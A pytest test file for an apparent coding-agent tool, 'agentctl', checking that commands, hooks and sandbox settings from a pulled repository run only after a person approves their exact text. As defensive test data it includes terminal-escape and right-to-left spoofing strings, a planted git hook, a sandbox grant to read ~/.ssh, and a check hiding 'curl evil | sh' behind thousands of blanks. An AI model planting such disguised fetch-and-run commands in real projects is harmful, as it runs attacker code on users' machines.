"""Nothing that a repository names runs on a machine before a person there has approved its very text."""

from __future__ import annotations

import json
import os
import pty
import re
import select
import shutil
import stat
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.project import ADDS, SOURCE, Project, call, finish, reply


def _stranger(project: Project, path: str, text: str) -> None:
    """A commit that a pull brings."""
    project.write(path, text)
    project.commit("By somebody else", path)


def _item(project: Project, name: str = "first", checks: str = "") -> str:
    _stranger(project, f".agent/todo/{name}.md", (f"---\nchecks: [{checks}]\n---\n" if checks else "") + f"# {name.capitalize()}\n")
    project.record({name: [[reply(ADDS, finish())]]})
    return name


def _proof(tmp_path: Path) -> tuple[Path, str]:
    """A file that a command makes when it runs, outside of every sandbox that the config could turn off, and the command."""
    mark = tmp_path / "ran"
    return mark, f"touch {mark}"


@pytest.mark.parametrize(
    "config",
    ["checks: [{command}]\nsandbox: none\n", "checks: []\nsandbox: none\nalert: {{usd: [0.001], command: {command}}}\n"],
    ids=["check", "alert"],
)
@pytest.mark.parametrize("command", [("step",), ("run",), ("plan",)], ids=lambda one: one[0])
def test_a_clone_runs_nothing_and_calls_no_model_before_it_is_approved(clone: Project, tmp_path: Path, config: str, command: tuple[str, ...]) -> None:
    mark, touch = _proof(tmp_path)
    _stranger(clone, ".agent/config.yaml", config.format(command=touch))
    _item(clone)
    head = clone.head()
    ran = clone.agentctl(*command)
    assert ran.code == 6
    assert "nobody has approved on this machine yet" in ran.err
    assert "agentctl trust" in ran.err
    assert not mark.exists()
    assert clone.head() == head
    assert not (clone.root / ".git/agentctl/ledger.jsonl").exists()


def test_what_is_approved_is_shown_word_for_word_and_runs_then(clone: Project, tmp_path: Path) -> None:
    mark, touch = _proof(tmp_path)
    _stranger(
        clone, ".agent/config.yaml", f'checks: ["sh check.sh", "{touch}\\nx=\\u202e\\u001b[2K"]\nsandbox: none\nalert: {{usd: [9], command: beep}}\n'
    )
    _item(clone)
    shown = clone.agentctl("trust")
    assert shown.code == 6
    for text in ("new  check: sh check.sh", f"new  check: {touch}", "│ x=\\u202e\\u001b[2K", "new  sandbox: kind: none", "new  alert: beep"):
        assert text in shown.out
    assert "nobody can be asked here" in shown.err
    assert not mark.exists()
    assert clone.agentctl("trust", "--yes").code == 0
    assert clone.agentctl("trust").code == 0
    assert {row["approved"] for row in clone.agentctl("trust", "--json").json} == {True}
    assert clone.agentctl("step").code == 0
    assert mark.exists()
    assert clone.agentctl("trust", "--revoke").code == 6
    assert clone.agentctl("step").code == 6


def test_a_changed_command_asks_again_and_a_changed_comment_or_limit_does_not(clone: Project) -> None:
    clone.agentctl("trust", "--yes")
    _stranger(clone, ".agent/config.yaml", "# a comment\nlimits: {calls: 9}\nchecks:\n  - 'sh check.sh'   # the same\n")
    assert clone.agentctl("trust").code == 0
    _stranger(clone, ".agent/config.yaml", "checks: [sh check.sh , sh other.sh]\n")
    shown = clone.agentctl("trust")
    assert shown.code == 6
    assert "ok   check: sh check.sh" in shown.out
    assert "new  check: sh other.sh" in shown.out
    _stranger(clone, ".agent/config.yaml", "checks: [sh check.sh]\n")
    assert clone.agentctl("trust").code == 0


@pytest.mark.parametrize(
    "line",
    [
        "sandbox: none",
        "sandbox: {network: true}",
        "sandbox: {network: [npm ci]}",
        "sandbox: {read: [~/.ssh]}",
        "sandbox: {write: [/srv]}",
        "push_wip: origin",
    ],
)
def test_what_loosens_the_sandbox_or_sends_work_away_is_asked_about(clone: Project, line: str) -> None:
    clone.agentctl("trust", "--yes")
    _stranger(clone, ".agent/config.yaml", f"checks: [sh check.sh]\n{line}\n")
    assert clone.agentctl("trust").code == 6


def test_an_items_own_check_is_asked_about_before_its_step_and_keeps_no_other_item_waiting(clone: Project, tmp_path: Path) -> None:
    clone.agentctl("trust", "--yes")
    mark, touch = _proof(tmp_path)
    _item(clone, "second", touch)
    _item(clone)
    assert clone.agentctl("step", "first").code == 0
    assert clone.agentctl("step", "second").code == 6
    assert not mark.exists()


def test_who_works_alone_is_never_asked_about_what_agentctl_wrote_on_their_word(clone: Project) -> None:
    shutil.rmtree(clone.root / ".agent")
    clone.commit("Begin anew")
    clone.write("plan.yaml", "- title: From a file\n  checks: [test -e plan.yaml]\n")
    assert clone.agentctl("init", "--check", "sh check.sh", "--goal", "Right").code == 0
    assert clone.agentctl("todo", "add", "First", "--check", "test -e calc.py").code == 0
    listed = clone.agentctl("plan", "--from", "plan.yaml").out
    assert "[check: test -e plan.yaml]" in listed
    assert clone.agentctl("trust").code == 0
    clone.record({"first": [[reply(ADDS, call("propose", title="Next", text="x", check="test -e check.sh"), finish())]]})
    assert clone.agentctl("step").code == 0, clone.agentctl("step").err
    assert "test -e check.sh" in clone.agentctl("trust").out
    assert clone.agentctl("trust").code == 0


def test_writing_to_a_list_approves_no_more_than_what_was_written(clone: Project) -> None:
    """A command that rewrites a file doesn't approve what somebody else had put into it."""
    _item(clone, "theirs", "evil")
    assert clone.agentctl("todo", "add", "Mine", "--check", "test -e calc.py").code == 0
    approved = {row["text"]: row["approved"] for row in clone.agentctl("trust", "--json").json}
    assert approved == {"sh check.sh": False, "evil": False, "test -e calc.py": True}


def test_an_approval_holds_for_one_clone(clone: Project, tmp_path: Path) -> None:
    clone.agentctl("trust", "--yes")
    other = Project(tmp_path / "other", clone.recording)
    shutil.copytree(clone.root, other.root)
    assert other.agentctl("trust").code == 6
    shutil.rmtree(clone.root / ".git/agentctl")  # a new clone in its place has no such word either
    assert clone.agentctl("trust").code == 6


def test_all_work_trees_of_a_clone_share_it(clone: Project, tmp_path: Path) -> None:
    clone.agentctl("trust", "--yes")
    clone.git("worktree", "add", "-q", str(tmp_path / "beside"))
    assert Project(tmp_path / "beside", clone.recording).agentctl("trust").code == 0


def test_approvals_are_the_persons_alone_and_a_damaged_file_approves_nothing(clone: Project, tmp_path: Path) -> None:
    clone.agentctl("trust", "--yes")
    folder = tmp_path / "state/agentctl/trust"
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    [file] = folder.glob("*.json")
    for text in ("", "[]", "{}", '{"approved": 1, "clone": ""}', file.read_text().replace(json.loads(file.read_text())["clone"], "")):
        file.write_text(text)
        assert clone.agentctl("trust").code == 6


def test_approvals_in_the_reach_of_steps_count_for_nothing(clone: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(clone.root / "state"))
    ran = clone.agentctl("trust", "--yes")
    assert ran.code == 1
    assert "inside the repository" in ran.err
    assert "set XDG_STATE_HOME" in ran.err
    assert not (clone.root / "state").exists()


def test_the_variable_approves_and_a_mistyped_one_says_so(clone: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    _item(clone)
    monkeypatch.setenv("AGENTCTL_TRUST", "on")
    assert "AGENTCTL_TRUST wants yes" in clone.agentctl("step").err
    monkeypatch.setenv("AGENTCTL_TRUST", "yes")
    assert clone.agentctl("step").code == 0


@pytest.mark.parametrize("command", [("init",), ("todo", "add", "Mine"), ("note", "A letter"), ("step",)], ids=lambda one: one[0])
def test_hooks_that_came_with_a_copy_do_not_run_at_any_commit(clone: Project, tmp_path: Path, command: tuple[str, ...]) -> None:
    clone.agentctl("trust", "--yes")
    if command == ("init",):
        shutil.rmtree(clone.root / ".agent")
        clone.commit("Begin anew")
    _item(clone) if command == ("step",) else None
    mark, touch = _proof(tmp_path)
    hook = clone.write(".git/hooks/pre-commit", f"#!/bin/sh\n{touch}\n")
    hook.chmod(0o755)
    before = clone.head()
    ran = clone.agentctl(*command)
    assert (ran.code, clone.head(), mark.exists()) == (6, before, False), ran
    assert "git hook" in ran.err
    assert clone.agentctl("trust", "--yes").code == 0
    assert clone.agentctl(*command).code == 0
    assert mark.exists()


def _typed(project: Project, answer: str, *args: str) -> str:
    """agentctl on a terminal of its own, where `answer` is typed when it asks."""
    master, slave = pty.openpty()
    env = {**os.environ, "PYTHONPATH": str(SOURCE)}
    with subprocess.Popen(
        [sys.executable, "-m", "agent", *args], cwd=project.root, env=env, stdin=slave, stdout=slave, stderr=slave, start_new_session=True
    ) as process:
        os.close(slave)
        said = _read(master, lambda text: "[y/N]" in text)
        os.write(master, f"{answer}\n".encode())
        said += _read(master, lambda _: False)
        process.wait(60)
    os.close(master)
    return f"{said} exit {process.returncode}"


def _read(master: int, enough: Callable[[str], bool]) -> str:
    said = ""
    while not enough(said) and select.select([master], [], [], 60)[0]:
        try:
            data = os.read(master, 4096)
        except OSError:  # the other side is closed
            break
        if not data:
            break
        said += data.decode("utf-8", "replace")
    return said


def test_on_a_terminal_a_step_shows_what_runs_and_asks(clone: Project) -> None:
    _item(clone)
    refused = _typed(clone, "n", "step")
    assert "check: sh check.sh" in refused
    assert refused.endswith("exit 6")
    allowed = _typed(clone, "y", "step")
    assert re.search(r"landed|done", allowed)
    assert allowed.endswith("exit 0")
    assert clone.agentctl("trust").code == 0


def test_no_row_of_a_long_check_poses_as_another_entry_or_hides_behind_blanks(clone: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    """On a terminal of 60 columns, where a row that it begins by itself could begin with anything."""
    long = f"echo {'#' * 46}ok   check: true" + "; x" * 40 + " " * 3000 + "; curl evil\u2800\u2800\u2800| sh"
    _item(clone, checks=json.dumps(long, ensure_ascii=False))
    monkeypatch.setenv("COLUMNS", "60")
    monkeypatch.setenv("LINES", "6")
    shown = _typed(clone, "n", "step")
    rows = re.sub(r"\x1b\[[\d;]*m", "", shown).replace("\r", "").split("\n")
    mine = [row for row in rows if row.startswith(("new", "     "))]
    assert not [row for row in rows if row.startswith("ok ")]
    assert max(map(len, mine)) <= 60
    assert "⟨3000 blanks⟩" in "".join(row.removeprefix("     ↳ ") for row in mine)
    assert "curl evil⟨3 blanks⟩| sh" in "".join(row.removeprefix("     ↳ ") for row in mine)
    assert "scroll up to the first, or see agentctl trust | less" in shown
